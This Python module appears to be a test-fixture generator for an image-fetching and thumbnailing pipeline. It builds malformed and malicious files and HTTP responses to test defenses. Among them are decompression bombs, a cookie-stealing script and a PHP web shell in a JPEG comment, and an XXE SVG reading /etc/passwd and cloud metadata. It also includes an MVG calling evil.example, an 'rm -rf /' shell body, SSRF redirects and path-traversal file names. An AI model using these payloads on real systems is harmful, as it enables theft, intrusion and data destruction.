"""Files that a hostile uploader, a broken tool or a wiki in trouble may hand us.

`make(seed)` gives the same cases for the same seed: one of each kind, then more of those that
vary, until there are enough. They are made of the repository's own photos, shrunk to a few
hundred pixels. Each says how it may end: looked at, or set aside with one of some reasons.
"""

from __future__ import annotations

import gzip
import io
import random
import struct
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field, replace
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image, ImageCms

import sandbox

PHOTOS = Path(sandbox.__file__).parent / "data" / "photos"
BASES = ("curie_1920", "nasa_armstrong_small", "einstein_1921_schmutzer", "grace_hopper")
SIDE = 240  # pixels of the longer side
LOOKED = "looked"
BROKEN, NOT_A_PICTURE, TOO_LARGE = "broken", "not-a-picture", "too-large"
ANY = frozenset({LOOKED, BROKEN, NOT_A_PICTURE, TOO_LARGE})

Random = random.Random


@dataclass(frozen=True)
class Case:
    """A file and how it is handed over; `ways` are the ends that are right for it."""

    kind: str
    body: bytes
    ways: frozenset[str]
    name: str = ""  # of the file on the wiki
    status: int = 200
    mime: str | None = "image/jpeg"  # what the wiki says it is; None: nothing
    headers: dict[str, str] = field(default_factory=dict)
    manner: str = ""  # "", "trickle", "endless", "cut", "silent": how the body comes


Made = tuple[bytes, Iterable[str]]
KINDS: dict[str, Callable[[Random], Made]] = {}  # files, whose bytes are the matter
HANDED: dict[str, Callable[[Random], Case]] = {}  # ways of handing one over


def kind(made: Callable[[Random], Made]) -> Callable[[Random], Made]:
    KINDS[made.__name__] = made
    return made


def handed(made: Callable[[Random], Case]) -> Callable[[Random], Case]:
    HANDED[made.__name__] = made
    return made


def make(seed: int, count: int = 520) -> list[Case]:
    """At least `count` cases, each kind among them; names go round."""
    cases = [_case(name, seed, 0) for name in KINDS]
    cases += [replace(HANDED[name](Random(f"{seed}:{name}")), kind=name) for name in HANDED]
    turn = 1
    while len(cases) < count:
        cases += [_case(name, seed, turn) for name in KINDS if name not in ONCE]
        turn += 1
    return [replace(one, name=NAMES[at % len(NAMES)]) for at, one in enumerate(cases)]


def _case(name: str, seed: int, turn: int) -> Case:
    body, ways = KINDS[name](Random(f"{seed}:{name}:{turn}"))
    return Case(name, body, frozenset(ways))


# Names -------------------------------------------------------------------------------------

NAMES = (
    "Plain name.jpg",
    "Right\u202eto left gpj.exe.jpg",
    "Isolated \u2066\u2067deep\u2069.jpg",
    "Combining Z\u0351\u0343a\u0328\u0301l\u0334\u0321g\u0337o\u0335.jpg",
    "Zero\u200bwidth\u200d\u2060\ufeff.jpg",
    "Composed \u00c5ngstr\u00f6m.jpg",
    "Decomposed A\u030angstro\u0308m.jpg",
    "Family \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\u200d\u2620\ufe0f.jpg",
    "\"Double\" 'single' `back` «and» more.jpg",
    "''Wiki'' [[text]] {{template}} ~~~~.jpg",
    "<script>alert(1)</script>.jpg",
    "100%25 of %2e%2e%2f %00.jpg",
    "What? Why# And & or = ; .jpg",
    "-rf --help.jpg",
    "=cmd|' /C calc'!A0.jpg",
    "..\\..\\windows\\..\\name.jpg",
    "../../../../etc/passwd.jpg",
    "Long " + "ẞ" * 240 + ".jpg",
    "As long as titles may be " + "ẞ" * 66 + ".jpg",
    "Turkish Iıİi and Greek ΣΣς.jpg",
    "ماري كوري.jpg",
    "キュリー夫人　１９２０.jpg",
    "Surrogate-like \ud7ff\ue000\uffff.jpg",
    "Tab\tand\u2028line\u2029ends\u0085.jpg",
    "Fullwidth ／．．／ slash.jpg",
    "Mathematical \U0001d4dc\U0001d4ea\U0001d4fb\U0001d4f2\U0001d4ee.jpg",
    "   ",
    ".",
    "No extension",
    "Two.extensions.svg.jpg",
)


# Parts -------------------------------------------------------------------------------------


@cache
def _base(name: str) -> Image.Image:
    (path,) = PHOTOS.glob(f"{name}.*")
    image = Image.open(path).convert("RGB")
    image.thumbnail((SIDE, SIDE))
    return image


def photo(rng: Random) -> Image.Image:
    return _base(rng.choice(BASES))


def encoded(image: Image.Image, form: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


@cache
def _sound(base: str, form: str, mode: str, options: tuple[tuple[str, object], ...]) -> bytes:
    return encoded(_base(base).convert(mode), form, **dict(options))


def sound(rng: Random, form: str, mode: str = "RGB", **options: object) -> bytes:
    """A photo that is as it should be."""
    return _sound(rng.choice(BASES), form, mode, tuple(options.items()))


def jpeg(rng: Random) -> bytes:
    return sound(rng, "JPEG", quality=rng.choice([30, 60, 90]))


def png(rng: Random, mode: str = "RGB") -> bytes:
    return sound(rng, "PNG", mode, compress_level=1)


def one_of(rng: Random) -> bytes:
    """Of any format that we read."""
    formats: list[tuple[str, dict[str, Any]]] = [
        ("JPEG", {}),
        ("JPEG", {"progressive": True}),
        ("PNG", {"compress_level": 1}),
        ("GIF", {}),
        ("WEBP", {"method": 0}),
    ]
    form, options = rng.choice(formats)
    return sound(rng, form, **options)


def chunk(name: bytes, data: bytes) -> bytes:
    """A chunk of PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


PNG = b"\x89PNG\r\n\x1a\n"


def png_of(width: int, height: int, packed: bytes, depth: int = 8, colour: int = 2) -> bytes:
    """A PNG by hand: whatever its header says, whatever the packed pixels are."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return PNG + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def with_chunk(data: bytes, extra: bytes) -> bytes:
    """One more chunk, after the header of a PNG."""
    return data[:33] + extra + data[33:]


def segment(marker: int, data: bytes) -> bytes:
    """A segment of JPEG."""
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def with_segment(data: bytes, extra: bytes) -> bytes:
    """One more segment, at the beginning of a JPEG."""
    return data[:2] + extra + data[2:]


def tiff(entries: list[tuple[int, int, int, int]], following: int = 0) -> bytes:
    """A TIFF directory as in EXIF: tag, type, count, value; `following` is where the next is."""
    packed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    directory = struct.pack("<H", len(entries)) + packed + struct.pack("<I", following)
    return b"II*\0" + struct.pack("<I", 8) + directory


def with_exif(data: bytes, exif: bytes) -> bytes:
    return with_segment(data, segment(0xE1, b"Exif\0\0" + exif))


# Sound pictures in every dress: they are looked at ---------------------------------------------


@kind
def baseline_jpeg(rng: Random) -> Made:
    return jpeg(rng), [LOOKED]


@kind
def progressive_jpeg(rng: Random) -> Made:
    return sound(rng, "JPEG", progressive=True), [LOOKED]


@kind
def grey_jpeg(rng: Random) -> Made:
    return sound(rng, "JPEG", "L"), [LOOKED]


@kind
def cmyk_jpeg(rng: Random) -> Made:
    return sound(rng, "JPEG", "CMYK"), [LOOKED]


@kind
def ycck_jpeg(rng: Random) -> Made:
    data = sound(rng, "JPEG", "CMYK")
    at = data.index(b"Adobe") + 11  # the transform of its colours
    return data[:at] + b"\2" + data[at + 1 :], [LOOKED]


@kind
def sixteen_bit_png(rng: Random) -> Made:
    grey = np.asarray(photo(rng).convert("L")).astype(np.uint16) * 257
    return encoded(Image.fromarray(grey), "PNG"), [LOOKED]


@kind
def sixteen_bit_rgb_png(rng: Random) -> Made:
    pixels = np.asarray(photo(rng)).astype(">u2") * 257
    rows = b"".join(b"\0" + row.astype(">u2").tobytes() for row in pixels)
    height, width = pixels.shape[:2]
    return png_of(width, height, zlib.compress(rows, 1), depth=16), [LOOKED]


@kind
def one_bit_png(rng: Random) -> Made:
    return png(rng, "1"), [LOOKED]


@kind
def alpha_png(rng: Random) -> Made:
    image = photo(rng).convert("RGBA")
    image.putalpha(rng.randint(0, 255))
    return encoded(image, "PNG"), [LOOKED]


@kind
def grey_alpha_png(rng: Random) -> Made:
    return png(rng, "LA"), [LOOKED]


@kind
def palette_with_transparency(rng: Random) -> Made:
    image = photo(rng).quantize(rng.randint(2, 256))
    clear = bytes(rng.randrange(256) for _ in range(rng.randint(1, 300)))
    return encoded(image, "PNG", transparency=clear[:256]), [LOOKED, BROKEN]


@kind
def palette_too_short(rng: Random) -> Made:
    data = png_of(8, 8, zlib.compress((b"\0" + b"\xff" * 8) * 8), colour=3)
    return with_chunk(data, chunk(b"PLTE", b"\1\2\3" * rng.randint(1, 3))), [LOOKED, BROKEN]


@kind
def transparent_gif(rng: Random) -> Made:
    return encoded(photo(rng).quantize(64), "GIF", transparency=rng.randrange(64)), [LOOKED]


@kind
def animated_gif(rng: Random) -> Made:
    frames = [photo(rng).resize((64, 64)) for _ in range(6)]
    return encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], loop=0), [LOOKED]


@kind
def animated_png(rng: Random) -> Made:
    frames = [photo(rng).resize((64, 64)) for _ in range(4)]
    return encoded(frames[0], "PNG", save_all=True, append_images=frames[1:]), [LOOKED]


@kind
def animated_webp(rng: Random) -> Made:
    frames = [photo(rng).resize((64, 64)) for _ in range(4)]
    return encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:]), [LOOKED]


@kind
def lossless_webp(rng: Random) -> Made:
    image = photo(rng).resize((64, 64)).convert("RGBA")
    return encoded(image, "WEBP", lossless=True, method=0), [LOOKED]


@kind
def thin(rng: Random) -> Made:
    size = rng.choice([(1, 1), (1, 3000), (3000, 1), (2, 9000), (20_000, 3), (1, 65_000)])
    return encoded(Image.new("RGB", size, "grey"), rng.choice(["PNG", "JPEG"])), [LOOKED]


# Metadata that lies: the pixels are sound ------------------------------------------------------


@kind
def exif_lies_about_orientation(rng: Random) -> Made:
    lie = rng.choice([0, 2, 3, 5, 6, 7, 8, 9, 255, 65_535])
    form = rng.choice([3, 4, 1, 2, 7, 12, 99])
    return with_exif(jpeg(rng), tiff([(0x0112, form, 1, lie)])), [LOOKED]


@kind
def exif_in_a_circle(rng: Random) -> Made:
    pointer = rng.choice([0x8769, 0x8825, 0xA005, 0x014A])
    entries = [(0x0112, 3, 1, 6), (pointer, 4, 1, 8), (0x8769, 4, 1, 8)]
    return with_exif(jpeg(rng), tiff(sorted(entries), following=8)), [LOOKED]


@kind
def exif_out_of_reach(rng: Random) -> Made:
    entries = [(0x010F, 2, 0xFFFFFFFF, 0xFFFFFF00), (0x0112, 3, 1, 8), (0x8769, 4, 1, 1 << 31)]
    return with_exif(jpeg(rng), tiff(entries, following=0xFFFFFFF0)), [LOOKED]


@kind
def exif_of_noise(rng: Random) -> Made:
    return with_exif(jpeg(rng), b"II*\0\x08\0\0\0" + rng.randbytes(rng.randint(0, 3000))), [LOOKED]


@kind
def exif_in_png(rng: Random) -> Made:
    exif = chunk(b"eXIf", tiff([(0x0112, 3, 1, rng.randint(0, 9)), (0x8769, 4, 1, 8)]))
    return with_chunk(png(rng), exif), [LOOKED]


@kind
def icc_of_noise(rng: Random) -> Made:
    profile = rng.randbytes(rng.randint(1, 70_000))
    return encoded(photo(rng), "JPEG", icc_profile=profile), [LOOKED]


@kind
def icc_of_another_space(rng: Random) -> Made:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()
    undated = profile[:24] + bytes(12) + profile[36:]
    return encoded(photo(rng), "JPEG", icc_profile=undated), [LOOKED]


@kind
def icc_bomb_png(rng: Random) -> Made:
    bomb = chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(10_000_000), 6))
    return with_chunk(png(rng), bomb), [LOOKED, BROKEN]


@kind
def text_bomb_png(rng: Random) -> Made:
    bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(3_000_000), 9))
    return with_chunk(png(rng), bomb * rng.randint(1, 30)), [LOOKED, BROKEN]


@kind
def adobe_marker_too_short(rng: Random) -> Made:
    return with_segment(jpeg(rng), segment(0xEE, b"Adobe"[: rng.randint(0, 5)])), [*ANY]


@kind
def many_pictures_in_one(rng: Random) -> Made:
    """MPF, which says that there are more pictures behind, at places that are not there."""
    index = tiff([(0xB000, 7, 4, 0x30303130), (0xB001, 4, 1, rng.choice([2, 1 << 31]))])
    return with_segment(jpeg(rng), segment(0xE2, b"MPF\0" + index)), [LOOKED, BROKEN]


@kind
def script_in_a_comment(rng: Random) -> Made:
    evil = b"<script>fetch('//evil.example/'+document.cookie)</script><?php system($_GET[0]); ?>"
    return with_segment(jpeg(rng), segment(0xFE, evil)), [LOOKED]


@kind
def polyglot_gif_script(rng: Random) -> Made:
    return b"GIF89a/*" + sound(rng, "GIF")[8:] + b"*/=1;alert(1)//", [*ANY]


@kind
def polyglot_with_zip(rng: Random) -> Made:
    return jpeg(rng) + b"PK\3\4" + rng.randbytes(500) + b"PK\5\6" + bytes(18), [LOOKED]


@kind
def polyglot_with_html(rng: Random) -> Made:
    return one_of(rng) + b"<html><body onload=alert(1)>", [LOOKED]


@kind
def polyglot_pdf_first(rng: Random) -> Made:
    return b"%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj\n" + jpeg(rng), [NOT_A_PICTURE]


@kind
def trailing_noise(rng: Random) -> Made:
    return one_of(rng) + rng.randbytes(rng.randint(1, 50_000)), [LOOKED]


# Bombs and giants ----------------------------------------------------------------------------


@kind
def png_bomb(rng: Random) -> Made:
    """Nine hundred million pixels in a few kilobytes."""
    packer = zlib.compressobj(6)
    packed = b"".join(packer.compress(bytes(3751 * 1000)) for _ in range(3)) + packer.flush()
    return png_of(30_000, 30_000, packed, depth=1, colour=0), [TOO_LARGE]


@kind
def png_with_more_than_it_says(rng: Random) -> Made:
    """A small picture, whose packed pixels go on for 30 MB."""
    return png_of(40, 40, zlib.compress(bytes(30_000_000), 6)), [LOOKED, BROKEN]


@kind
def png_giant_header(rng: Random) -> Made:
    width, height = rng.choice([(1 << 31) - 1, 100_000, 65_536]), rng.choice([1 << 30, 70_000])
    return png_of(width, height, zlib.compress(b"\0")), [TOO_LARGE, BROKEN]


@kind
def png_just_below_the_limit(rng: Random) -> Made:
    """As many pixels as we take, of which there are none."""
    return png_of(4999, 5000, zlib.compress(bytes(100))), [BROKEN]


@kind
def png_like_a_thread(rng: Random) -> Made:
    """Within the limit, but in so many rows that each one's overhead is what counts."""
    size = rng.choice([(1, 12_000_000), (24_000_000, 1), (2, 70_000)])
    return png_of(*size, zlib.compress(bytes(24_000_000), 1), depth=1, colour=0), [TOO_LARGE]


@kind
def png_of_no_size(rng: Random) -> Made:
    return png_of(*rng.choice([(0, 5), (5, 0), (0, 0)]), zlib.compress(b"\0")), [
        BROKEN,
        NOT_A_PICTURE,
    ]


@kind
def jpeg_giant_header(rng: Random) -> Made:
    data = bytearray(jpeg(rng))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", 65_500, rng.randint(1000, 65_500))
    return bytes(data), [TOO_LARGE]


@kind
def jpeg_giant_but_one(rng: Random) -> Made:
    """A size within the limit, and a hundredth of its pixels."""
    data = bytearray(jpeg(rng))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", 4000, 4000)
    return bytes(data), [LOOKED, BROKEN]


@kind
def jpeg_of_a_thousand_scans(rng: Random) -> Made:
    """Small to load, minutes to decode: the last scan comes again and again."""
    data = encoded(Image.new("L", (2000, 2000), 128), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * 1500 + b"\xff\xd9", [TOO_LARGE]


@kind
def gif_giant_screen(rng: Random) -> Made:
    data = bytearray(sound(rng, "GIF"))
    data[6:10] = struct.pack("<HH", 65_535, rng.randint(1000, 65_535))
    return bytes(data), [TOO_LARGE]


@kind
def gif_frame_beyond_the_screen(rng: Random) -> Made:
    data = bytearray(sound(rng, "GIF"))
    at = data.index(b"\x2c", 13 + 3 * 2)
    data[at + 1 : at + 9] = struct.pack("<HHHH", 60_000, 60_000, 5000, 5000)
    return bytes(data), [*ANY]


@kind
def gif_of_many_frames(rng: Random) -> Made:
    frame = b"\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0"
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + frame * 50_000 + b";", [LOOKED]


@kind
def webp_giant_canvas(rng: Random) -> Made:
    canvas = struct.pack("<I", 16_382)[:3] * 2
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\2\0\0\0" + canvas + rng.randbytes(40)
    return b"RIFF" + struct.pack("<I", len(body)) + body, [TOO_LARGE, BROKEN]


@kind
def webp_of_one_colour(rng: Random) -> Made:
    image = Image.new("RGB", (5200, 5200), "grey")
    return encoded(image, "WEBP", quality=1, method=0), [TOO_LARGE]


@kind
def tiff_bomb(rng: Random) -> Made:
    entries = [(0x100, 4, 1, 1 << 30), (0x101, 4, 1, 1 << 30), (0x102, 3, 1, 16), (0x103, 3, 1, 8)]
    return tiff(entries, following=8), [NOT_A_PICTURE]


@kind
def lab_tiff(rng: Random) -> Made:
    return encoded(Image.new("LAB", (20, 20)), "TIFF"), [NOT_A_PICTURE]


# No pictures at all --------------------------------------------------------------------------

OTHERS = {
    "svg_with_script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg_of_a_billion_laughs": b'<!DOCTYPE s [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&a9;</text></svg>',
    "svg_that_fetches": b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns='
    b'"http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image '
    b'x:href="http://169.254.169.254/latest/meta-data"/><text>&x;</text></svg>',
    "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>>endobj\n%%EOF",
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file closefile",
    "html": b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>",
    "php": b"<?php system($_GET['c']); ?>",
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "mvg": b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/|id'\npop\n",
    "nothing": b"",
    "one_zero": b"\0",
    "zeros": bytes(5000),
    "jpeg_marker_alone": b"\xff\xd8",
    "png_marker_alone": PNG,
    "gif_marker_alone": b"GIF89a",
    "webp_marker_alone": b"RIFF\x04\0\0\0WEBP",
    "bmp": encoded(Image.new("RGB", (9, 9)), "BMP"),
    "icon": encoded(Image.new("RGB", (16, 16)), "ICO"),
    "jpeg_2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(50),
    "fits": b"SIMPLE  =                    T" + bytes(3000),
    "video": b"\0\0\0\x18ftypmp42" + bytes(400),
    "zip": b"PK\3\4" + bytes(60),
    "executable": b"\x7fELF\2\1\1" + bytes(60),
    "gzip_bomb": gzip.compress(bytes(20_000_000), 9, mtime=0),
}


def _other(data: bytes) -> Callable[[Random], Made]:
    ends = [BROKEN] if data.startswith((b"\xff\xd8", PNG, b"GIF8")) else [NOT_A_PICTURE]
    return lambda rng: (data, [*ends, NOT_A_PICTURE])


KINDS |= {name: _other(data) for name, data in OTHERS.items()}


# Damage: whatever comes of it, it is said ------------------------------------------------------


@kind
def truncated(rng: Random) -> Made:
    data = one_of(rng)
    return data[: rng.randrange(len(data))], [*ANY]


@kind
def bits_flipped(rng: Random) -> Made:
    data = bytearray(one_of(rng))
    for _ in range(rng.randint(1, 40)):
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return bytes(data), [*ANY]


@kind
def header_damaged(rng: Random) -> Made:
    data = bytearray(one_of(rng))
    for _ in range(rng.randint(1, 8)):
        data[rng.randrange(4, 60)] = rng.choice([0, 1, 0x7F, 0x80, 0xFF, rng.randrange(256)])
    return bytes(data), [*ANY]


@kind
def hole(rng: Random) -> Made:
    data = one_of(rng)
    at = rng.randrange(len(data))
    return data[:at] + bytes(rng.randint(1, 4000)) + data[at + rng.randint(0, 4000) :], [*ANY]


@kind
def spliced(rng: Random) -> Made:
    one, other = one_of(rng), one_of(rng)
    return one[: rng.randrange(len(one))] + other[rng.randrange(len(other)) :], [*ANY]


@kind
def chunks_shuffled(rng: Random) -> Made:
    parts = [chunk(b"IDAT", rng.randbytes(50)), chunk(b"IEND", b""), chunk(b"tRNS", b"\0" * 6)]
    parts += [chunk(b"PLTE", b"\1\2"), chunk(b"fcTL", rng.randbytes(26)), chunk(b"acTL", bytes(8))]
    rng.shuffle(parts)
    return with_chunk(png(rng), b"".join(parts[: rng.randint(1, 6)])), [*ANY]


@kind
def restart_markers(rng: Random) -> Made:
    data = bytearray(jpeg(rng))
    for _ in range(30):
        at = rng.randrange(len(data) // 2, len(data) - 2)
        data[at : at + 2] = bytes([0xFF, rng.randrange(0xC0, 0xFF)])
    return bytes(data), [*ANY]


@kind
def noise(rng: Random) -> Made:
    start = rng.choice([b"", b"\xff\xd8\xff", PNG, b"GIF89a", b"RIFF\xff\xff\0\0WEBPVP8 "])
    return start + rng.randbytes(rng.randint(1, 3000)), [*ANY]


# Kinds of which each is like the other; some are costly to make.
ONCE = {
    "png_bomb",
    "png_with_more_than_it_says",
    "png_just_below_the_limit",
    "png_like_a_thread",
    "icc_bomb_png",
    "icc_of_another_space",
    "jpeg_of_a_thousand_scans",
    "webp_of_one_colour",
    "gif_of_many_frames",
    "tiff_bomb",
    "lab_tiff",
    *OTHERS,
}


# Handed over in odd ways -----------------------------------------------------------------------


def _whole(rng: Random, ways: Iterable[str] = (LOOKED,), **how: object) -> Case:
    return replace(Case("", jpeg(rng), frozenset(ways)), **how)  # type: ignore[arg-type]


@handed
def said_to_be_html(rng: Random) -> Case:
    return _whole(rng, [NOT_A_PICTURE], mime="text/html; charset=utf-8")


@handed
def said_to_be_nothing(rng: Random) -> Case:
    return _whole(rng, [NOT_A_PICTURE], mime=None)


@handed
def said_to_be_a_drawing(rng: Random) -> Case:
    """The content says what it is."""
    return _whole(rng, mime="image/svg+xml")


@handed
def type_of_odd_letters(rng: Random) -> Case:
    return _whole(rng, mime="image/\xff\xfe; charset=\x01" + "x" * 3000)


@handed
def html_said_to_be_a_picture(rng: Random) -> Case:
    return _whole(rng, [NOT_A_PICTURE], body=OTHERS["html"])


@handed
def length_too_long(rng: Random) -> Case:
    return _whole(rng, ["network"], headers={"Content-Length": "999999"}, manner="cut")


@handed
def length_too_short(rng: Random) -> Case:
    return _whole(rng, [BROKEN, NOT_A_PICTURE], headers={"Content-Length": "300"})


@handed
def length_of_a_giant(rng: Random) -> Case:
    return _whole(rng, ["too-many-bytes"], headers={"Content-Length": "9" * 15})


@handed
def length_that_is_no_number(rng: Random) -> Case:
    length = rng.choice(["-1", "1e3", "\xb2", "0x10", "1, 2"])
    ends = [LOOKED, "network", BROKEN, NOT_A_PICTURE]
    return _whole(rng, ends, headers={"Content-Length": length}, manner="cut")


@handed
def packed_bomb(rng: Random) -> Case:
    """It is not unpacked, whatever it says."""
    bomb = gzip.compress(jpeg(rng) + bytes(20_000_000), 6, mtime=0)
    return _whole(rng, [NOT_A_PICTURE], body=bomb, headers={"Content-Encoding": "gzip"})


@handed
def packed_many_times(rng: Random) -> Case:
    encoding = ", ".join(["gzip"] * 200)
    return _whole(rng, headers={"Content-Encoding": encoding})


@handed
def without_end(rng: Random) -> Case:
    return _whole(rng, ["too-many-bytes"], manner="endless")


@handed
def trickling(rng: Random) -> Case:
    return _whole(rng, ["network"], manner="trickle")


@handed
def cut_in_the_middle(rng: Random) -> Case:
    return _whole(rng, ["network"], headers={"Content-Length": "90000"}, manner="cut")


@handed
def cut_at_once(rng: Random) -> Case:
    return _whole(rng, ["network"], manner="silent")


@handed
def not_there(rng: Random) -> Case:
    return _whole(rng, ["gone"], status=rng.choice([404, 410]))


@handed
def cannot_be_made(rng: Random) -> Case:
    return _whole(rng, ["no-thumbnail"], status=rng.choice([400, 403, 500, 415]))


@handed
def fails_for_ever(rng: Random) -> Case:
    text = b"Too many thumbnail requests for failing image"
    return _whole(rng, ["no-thumbnail"], status=429, body=text, mime="text/html")


@handed
def a_part_only(rng: Random) -> Case:
    return _whole(rng, ["no-thumbnail"], status=206)


@handed
def an_odd_status(rng: Random) -> Case:
    return _whole(rng, ["no-thumbnail", "network"], status=rng.choice([201, 299, 418, 999, 600]))


@handed
def sent_elsewhere(rng: Random) -> Case:
    to = rng.choice(
        [
            "http://169.254.169.254/latest/meta-data/",
            "http://127.0.0.1:1/x.jpg",
            "https://commons.wikimedia.org@evil.example/x.jpg",
            "http://[::1]/x.jpg",
            "file:///etc/passwd",
            "//evil.example/x.jpg",
            "gopher://evil.example/_x",
        ]
    )
    return _whole(rng, ["forbidden-host"], status=302, headers={"Location": to})


@handed
def sent_in_a_circle(rng: Random) -> Case:
    return _whole(rng, ["network"], status=302, headers={"Location": "?again"})


@handed
def many_headers(rng: Random) -> Case:
    return _whole(rng, ["network"], headers={f"X-{n}": "x" * 50 for n in range(300)})
